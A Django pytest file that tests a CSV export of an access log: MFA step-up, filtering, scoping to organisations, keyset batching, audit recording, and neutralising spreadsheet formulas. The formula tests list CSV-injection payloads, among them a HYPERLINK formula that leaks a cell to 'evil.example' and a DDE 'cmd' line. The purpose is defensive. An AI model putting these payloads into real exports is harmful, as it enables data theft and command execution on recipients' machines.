"""The CSV export of the access log: a fresh second factor first (step-up), then the filtered,
scoped events streamed in batches, spreadsheet formulas neutralised, and the export itself recorded."""

import csv
import io
import time
from datetime import datetime, timedelta
from datetime import timezone as dt_timezone

import pytest
from allauth.account.internal.flows.login import AUTHENTICATION_METHODS_SESSION_KEY
from django.db import connection
from django.http import StreamingHttpResponse
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from django.utils.http import urlencode

from console import views
from audit.models import Action, AuditEvent, Outcome
from tests.accounts import sign_in
from tests.audit_log import actor_fields
from tests.factories import MembershipFactory, UserFactory
from tests.totp import totp_code

UTC = dt_timezone.utc
EXPORT = reverse("console:export")
EVENTS = reverse("console:events")
REAUTHENTICATE = reverse("mfa_reauthenticate")


def event(user=None, *, action=Action.SEARCHED, at=None, **fields):
    values = {**actor_fields(user), **fields}
    return AuditEvent.objects.create(occurred_at=at or timezone.now(), action=action, **values)


def authentication_records(client, *records):
    session = client.session
    session[AUTHENTICATION_METHODS_SESSION_KEY] = list(records)
    session.save()
    return client


def fresh_mfa(client):
    return authentication_records(client, {"method": "mfa", "at": time.time(), "type": "totp"})


def read_csv(response):
    assert response.status_code == 200, response.get("Location")
    assert isinstance(response, StreamingHttpResponse)
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"))))
    assert rows[0] == views.CSV_COLUMNS
    return [dict(zip(rows[0], row)) for row in rows[1:]]


def newest_first(queryset):
    return [str(pk) for pk in queryset.order_by("-occurred_at", "-id").values_list("pk", flat=True)]


@pytest.fixture
def reviewer(focal_point):
    return sign_in(Client(), focal_point)


@pytest.fixture
def mexican(mexico):
    return MembershipFactory(user=UserFactory(email="lectora@mexico.example.org"), national_society=mexico).user


# --- Step-up -----------------------------------------------------------------------------------------


def test_without_a_second_factor_in_this_session_the_export_asks_for_it(reviewer):
    url = EXPORT + "?organisation=colombia&action=searched"
    response = reviewer.get(url)
    assert response.status_code == 302
    assert response["Location"] == REAUTHENTICATE + "?" + urlencode({"next": url})
    assert not AuditEvent.objects.filter(action=Action.EXPORTED_LOG).exists()


@pytest.mark.parametrize(
    "record",
    [
        {"method": "mfa", "type": "totp", "age": 301},  # too old
        {"method": "mfa", "type": "totp", "age": 3600},
        {"method": "password", "age": 1},  # a password is not a second factor
        {"method": "code", "age": 1},
    ],
)
def test_a_stale_or_non_mfa_authentication_does_not_open_the_export(reviewer, record):
    record = dict(record)
    record["at"] = time.time() - record.pop("age")
    authentication_records(reviewer, record)
    response = reviewer.get(EXPORT)
    assert response.status_code == 302
    assert response["Location"].startswith(REAUTHENTICATE + "?next=")
    assert not AuditEvent.objects.filter(action=Action.EXPORTED_LOG).exists()


def test_a_second_factor_entered_299_seconds_ago_still_counts(reviewer):
    authentication_records(reviewer, {"method": "password", "at": time.time()}, {"method": "mfa", "at": time.time() - 299})
    assert reviewer.get(EXPORT).status_code == 200


def test_the_code_page_of_the_export_offers_no_password_instead(reviewer):
    """A password reauthentication would bring the reader straight back: not offered for the export."""
    step_up = reviewer.get(EXPORT)
    page = reviewer.get(step_up["Location"]).content.decode()
    assert "needs a code from your authenticator app" in page
    assert reverse("account_reauthenticate") not in page
    # Elsewhere (managing one's authenticators, say) the other ways stay on offer.
    other = reviewer.get(REAUTHENTICATE + "?next=/accounts/2fa/").content.decode()
    assert "needs a code from your authenticator app" not in other


def test_a_real_mfa_reauthentication_opens_the_export(reviewer, focal_point, member):
    searched = event(member, query="water")
    url = EXPORT + "?action=searched"
    step_up = reviewer.get(url)
    assert step_up.status_code == 302
    form = reviewer.get(step_up["Location"])
    assert form.status_code == 200

    wrong = reviewer.post(step_up["Location"], {"code": "000000" if totp_code() != "000000" else "111111"})
    assert wrong.status_code == 200
    assert reviewer.get(url).status_code == 302  # a wrong code opens nothing

    done = reviewer.post(step_up["Location"], {"code": totp_code()})
    assert done.status_code == 302
    assert done["Location"] == url
    rows = read_csv(reviewer.get(done["Location"]))
    assert [row["id"] for row in rows] == [str(searched.pk)]
    used = AuditEvent.objects.get(action=Action.MFA_USED, actor_user_id=focal_point.pk)
    assert used.details == {"type": "totp", "reauthentication": True}
    assert AuditEvent.objects.filter(action=Action.EXPORTED_LOG, actor_user_id=focal_point.pk).count() == 1


# --- The file ----------------------------------------------------------------------------------------


def test_the_csv_is_streamed_with_exactly_the_filtered_events(reviewer, member, mexican, colombia):
    day = datetime(2024, 3, 10, 9, 0, tzinfo=UTC)
    wanted = [event(member, query=f"water {n}", at=day + timedelta(hours=n)) for n in range(3)]
    wanted.append(event(member, query="tied", at=day + timedelta(hours=2)))  # same time: the id decides
    event(member, query="too late", at=datetime(2024, 3, 13, tzinfo=UTC))
    event(member, action=Action.VIEWED_MESSAGE, message_identifier="GEN-01", at=day)
    event(mexican, query="other society", at=day)
    fresh_mfa(reviewer)

    response = reviewer.get(EXPORT + "?organisation=colombia&action=searched&since=2024-03-10&until=2024-03-12")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="access-log-')
    assert response["Content-Disposition"].endswith('.csv"')
    assert response["Cache-Control"] == "private, no-store"
    rows = read_csv(response)
    assert [row["id"] for row in rows] == [str(e.pk) for e in (wanted[3], wanted[2], wanted[1], wanted[0])]
    first = rows[-1]
    assert first["occurred_at"] == "2024-03-10T09:00:00+00:00"
    assert (first["actor_email"], first["actor_organisation"], first["actor_role"]) == (
        "member@colombia.example.org", colombia.name, "member"
    )
    assert (first["action"], first["outcome"], first["query"]) == ("searched", "allowed", "water 0")


def test_the_export_is_recorded_with_its_filters(reviewer, focal_point, member):
    event(member, query="water", message_identifier="GEN-01")
    fresh_mfa(reviewer)
    query = "organisation=colombia&user=Member%40colombia.example.org&action=searched&message=gen-01&outcome=allowed&since=2024-03-10&until=2030-01-01"
    rows = read_csv(reviewer.get(EXPORT + "?" + query, REMOTE_ADDR="198.51.100.23", HTTP_USER_AGENT="Exporter/1.0"))
    assert len(rows) == 1
    exported = AuditEvent.objects.get(action=Action.EXPORTED_LOG)
    assert exported.actor_user_id == focal_point.pk
    assert exported.actor_email == focal_point.email
    assert (exported.actor_organisation, exported.actor_role) == ("IFRC Americas Regional Office", "focal_point")
    assert exported.target_type == "access_log"
    assert exported.outcome == Outcome.ALLOWED
    assert (exported.ip, exported.user_agent) == ("198.51.100.23", "Exporter/1.0")
    assert exported.details == {
        "organisation": "Colombian Red Cross",
        "user": "Member@colombia.example.org",
        "action": "searched",
        "message": "gen-01",
        "outcome": "allowed",
        "since": "2024-03-10",
        "until": "2030-01-01",
    }


def test_an_unfiltered_export_is_recorded_without_filters_and_lists_every_event(reviewer, member, mexican):
    event(member, query="a")
    event(mexican, query="b")
    fresh_mfa(reviewer)
    response = reviewer.get(EXPORT)
    exported = AuditEvent.objects.get(action=Action.EXPORTED_LOG)
    assert exported.details == {}
    assert [row["id"] for row in read_csv(response)] == newest_first(AuditEvent.objects.all())


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    # A spreadsheet that splits on ";" (or ",") sees a new cell, which may start a formula.
    "children; =HYPERLINK(\"http://evil.example\")",
    "a, +1",
    # Full-width forms, which some spreadsheets read as the ASCII ones.
    "＝1+1",
    "＠SUM(A1)",
]


def test_formula_looking_cells_are_neutralised(reviewer, member):
    for text in FORMULAS:
        event(member, query=text)
    event(member, action=Action.ACCESS_DENIED, outcome=Outcome.DENIED, target_type="url", target_id="=1+1",
          reason="+49 not found", user_agent="@agent")
    event(member, query="plain words, with a comma")
    fresh_mfa(reviewer)
    rows = read_csv(reviewer.get(EXPORT + "?organisation=colombia"))
    queries = {row["query"] for row in rows if row["action"] == "searched"}
    assert queries == {"'" + text for text in FORMULAS} | {"plain words, with a comma"}
    denied = next(row for row in rows if row["action"] == "access_denied")
    assert (denied["target_id"], denied["reason"], denied["user_agent"]) == ("'=1+1", "'+49 not found", "'@agent")
    for row in rows:
        for column, cell in row.items():
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, cell)


def test_a_large_export_is_read_in_keyset_batches(reviewer, member, monkeypatch):
    monkeypatch.setattr(views, "EXPORT_BATCH", 7)
    moment = timezone.now() - timedelta(hours=1)
    for n in range(30):
        event(member, action=Action.VIEWED_TOPIC, target_id=f"t{n}", at=moment + timedelta(seconds=n // 4))
    fresh_mfa(reviewer)
    with CaptureQueriesContext(connection) as queries:
        rows = read_csv(reviewer.get(EXPORT + "?action=viewed_topic"))
    assert [row["id"] for row in rows] == newest_first(AuditEvent.objects.filter(action=Action.VIEWED_TOPIC))
    assert len(rows) == 30 and len({row["id"] for row in rows}) == 30
    sql = [q["sql"].upper() for q in queries.captured_queries if "AUDIT_AUDITEVENT" in q["sql"].upper()]
    batches = [s for s in sql if s.startswith("SELECT") and "LIMIT 7" in s]
    assert len(batches) == 5  # 7 + 7 + 7 + 7 + 2
    assert not [s for s in sql if "OFFSET" in s or "COUNT(" in s]


def test_an_empty_export_has_the_header_row_only(reviewer):
    fresh_mfa(reviewer)
    assert read_csv(reviewer.get(EXPORT + "?action=note_deleted")) == []


def test_a_society_admin_exports_only_their_societys_events(society_admin_client, society_admin, member, mexican, colombia):
    event(member, query="colombian")
    event(mexican, query="mexican")
    fresh_mfa(society_admin_client)
    rows = read_csv(society_admin_client.get(EXPORT))
    assert [row["id"] for row in rows] == newest_first(AuditEvent.objects.filter(actor_organisation_id=colombia.pk))
    assert "mexican" not in {row["query"] for row in rows}
    assert {row["actor_organisation"] for row in rows} == {colombia.name}
    assert society_admin_client.get(EXPORT + "?organisation=mexico").status_code == 404
    assert AuditEvent.objects.filter(action=Action.EXPORTED_LOG, actor_user_id=society_admin.pk).count() == 1


def test_a_member_gets_404_with_or_without_a_second_factor(member_client, member):
    event(member, query="mine")
    assert member_client.get(EXPORT).status_code == 404
    fresh_mfa(member_client)
    response = member_client.get(EXPORT)
    assert response.status_code == 404
    assert b"mine" not in response.content
    assert not AuditEvent.objects.filter(action=Action.EXPORTED_LOG).exists()


def test_invalid_filters_go_back_to_the_console_and_export_nothing(reviewer, member):
    event(member, query="water")
    fresh_mfa(reviewer)
    for query in ("since=2024-03-12&until=2024-03-10", "message=not-an-id", "outcome=maybe", "user=not-an-email"):
        response = reviewer.get(EXPORT + "?" + query)
        assert response.status_code == 302, query
        assert response["Location"] == EVENTS + "?" + query
        assert reviewer.get(response["Location"]).context["form"].errors, query
    assert not AuditEvent.objects.filter(action=Action.EXPORTED_LOG).exists()


def test_a_head_request_neither_exports_nor_records_an_export(reviewer):
    fresh_mfa(reviewer)
    response = reviewer.head(reverse("console:export"))
    assert response.status_code == 405
    assert not AuditEvent.objects.filter(action=Action.EXPORTED_LOG).exists()
